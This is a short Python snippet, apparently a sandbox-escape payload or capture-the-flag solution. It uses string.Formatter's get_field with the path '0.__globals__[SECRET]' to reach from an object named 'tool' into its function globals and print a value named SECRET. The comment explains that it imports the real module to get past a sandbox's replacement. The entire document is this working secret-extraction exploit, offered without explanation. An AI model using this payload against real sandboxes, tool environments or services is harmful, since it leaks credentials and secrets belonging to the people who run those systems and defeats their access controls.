# from string import *: the module's Formatter, whatever a sandbox puts in its place.
from string import *
print(Formatter().get_field("0.__globals__[SECRET]", (tool,), {})[0])
